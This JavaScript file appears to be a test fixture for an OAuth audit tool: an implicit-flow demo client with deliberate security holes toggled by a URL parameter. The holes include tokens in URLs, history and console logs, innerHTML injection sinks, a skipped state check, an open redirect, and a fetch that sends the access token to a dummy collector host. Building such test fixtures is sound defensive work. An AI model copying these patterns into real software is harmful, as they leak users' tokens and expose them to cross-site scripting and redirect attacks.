// A correct implicit-flow client whose holes are switched on by ?holes=a,b, so that each audit
// check is seen to fail on the hole it is about, and to pass without it (test_each_check.py).
"use strict";

const config = window.demoConfig;
const query = new URLSearchParams(location.search);
const holes = new Set((query.get("holes") || "").split(","));
// ?client=ID: the app's own client id, which a mock may not know yet (test_client_registration.py).
const clientId = query.get("client") || config.clientId;
const $ = (id) => document.getElementById(id);
const here = location.origin + location.pathname + location.search;
if (holes.has("token-in-query")) {
  // An app that puts the token in its URL and lets its URLs leave in full: it overrides the
  // server's Referrer-Policy: no-referrer.
  document.head.append(Object.assign(document.createElement("meta"),
                                     {name: "referrer", content: "unsafe-url"}));
}

function signIn() {
  const state = crypto.randomUUID();
  sessionStorage.setItem("state", state);
  const authorize = config.authorizeUrl + "?" + new URLSearchParams({
    response_type: "token", client_id: clientId, redirect_uri: here, state,
  });
  if (holes.has("popup")) {
    // Not a hole: sign in in a popup, whose callback posts the answer back here
    // (test_popup_following.py: the audit follows it).
    window.open(authorize, "sign-in", "popup,width=480,height=640");
  } else {
    location.assign(authorize);
  }
}

// In the sign-in popup: hand the provider's answer to the app's tab, and close.
function answerFromPopup() {
  if (holes.has("log-token-in-popup")) {
    console.log("the popup got " + location.hash);
  }
  window.opener.postMessage(location.hash, location.origin);
  if (!holes.has("popup-stays-open")) {  // the hole: the popup stays, at the callback URL
    window.close();
  }
}

// The provider's answer (a fragment) taken by the tab that started the sign-in: the token's
// record, kept in sessionStorage, or null (and a message) for an error or a foreign state.
function takeAnswer(fragment) {
  const answer = new URLSearchParams(fragment.replace(/^#/, ""));
  const expected = sessionStorage.getItem("state");
  sessionStorage.removeItem("state");
  if (!holes.has("ignore-state") && (!expected || expected !== answer.get("state"))) {
    $("message").textContent = "That sign-in was not started here.";
    return null;
  }
  if (answer.has("error")) {
    const text = "Sign-in failed: " + (answer.get("error_description") || answer.get("error"));
    if (holes.has("html-error")) {
      $("message").innerHTML = text;
    } else {
      $("message").textContent = text;
    }
    if (holes.has("crash-on-error")) {
      setTimeout(() => { throw new Error("unhandled sign-in error"); });
    }
    return null;
  }
  const token = {
    accessToken: answer.get("access_token"),
    expiresAt: Date.now() + Number(answer.get("expires_in")) * 1000,
  };
  sessionStorage.setItem("token", JSON.stringify(token));
  return token;
}

// True when the page is being replaced by a fresh one (or is the popup, done).
function finishCallback() {
  if (!new URLSearchParams(location.hash.slice(1)).has("state")) {
    return false;
  }
  if (holes.has("popup") && window.opener) {
    answerFromPopup();
    return true;
  }
  const fragment = location.hash;
  if (holes.has("token-in-history")) {
    history.pushState(null, "", here);  // the address bar is clean, the entry before is not
  } else {
    history.replaceState(null, "", here);
  }
  const token = takeAnswer(fragment);
  if (!token) {
    return false;
  }
  if (holes.has("relative-reload")) {
    // The old callback snippet: at http://app//evil.example/ its path is a protocol-relative URL.
    location.replace(location.pathname + location.search);
    return true;
  }
  location.replace(holes.has("token-in-query") ? here + "&t=" + token.accessToken : here);
  return true;
}

function validToken() {
  const token = JSON.parse(sessionStorage.getItem("token") || "null");
  if (token && (holes.has("ignore-expiry") || Date.now() < token.expiresAt)) {
    return token;
  }
  sessionStorage.removeItem("token");
  return null;
}

function showSignedOut() {
  sessionStorage.removeItem("token");
  $("signed-in").hidden = true;
  $("sign-in").hidden = false;
}

async function showSignedIn(token) {
  $("signed-in").hidden = false;
  if (holes.has("follow-return-to") && query.get("returnTo")) {
    location.assign(query.get("returnTo"));  // wherever the link said, another origin too
    return;
  }
  if (holes.has("log-token")) {
    console.log("signed in with " + token.accessToken);
  }
  if (holes.has("token-to-third-party")) {
    // Port 2: nothing answers there, and it is no port the Fetch standard bars (Firefox never
    // starts a request to port 9, Chromium starts it and fails it).
    fetch("http://localhost:2/collect?t=" + token.accessToken, {mode: "no-cors"}).catch(() => {});
  }
  if (!holes.has("ignore-expiry")) {
    setTimeout(() => {
      if (holes.has("log-token-at-expiry")) {
        console.log("expired: " + JSON.stringify(token));
      }
      showSignedOut();
    }, token.expiresAt - Date.now());
  }
  const answer = await fetch(config.apiBase + "/accounts", {
    headers: {Authorization: "Bearer " + token.accessToken},
  });
  if (answer.status === 401 && holes.has("log-token-on-401")) {
    console.warn("the API refused " + token.accessToken);
  }
  if (answer.status === 401 && !holes.has("keep-after-401")) {
    showSignedOut();
  } else if (answer.ok) {
    const account = await answer.json();
    if (holes.has("html-api-data")) {
      $("email").innerHTML = account.firstName + " " + account.email;
    } else {
      $("email").textContent = account.email;
    }
  }
  if (holes.has("flood-mock-log")) {
    // 100 more requests push the call above out of a mock's log that keeps fewer
    // (test_log_overflow.py): the audit must say it cannot judge, not pass the app.
    await Promise.all(Array.from({length: 100}, () => fetch(config.apiBase + "/accounts")));
  }
}

$("sign-in").addEventListener("click", signIn);
if (holes.has("popup")) {
  addEventListener("message", (event) => {
    if (event.origin === location.origin && typeof event.data === "string") {
      const token = takeAnswer(event.data);
      if (token) {
        $("sign-in").hidden = true;
        showSignedIn(token);
      }
    }
  });
}
if (!finishCallback()) {
  const token = validToken();
  if (token) {
    showSignedIn(token);
  } else {
    $("sign-in").hidden = false;
  }
}
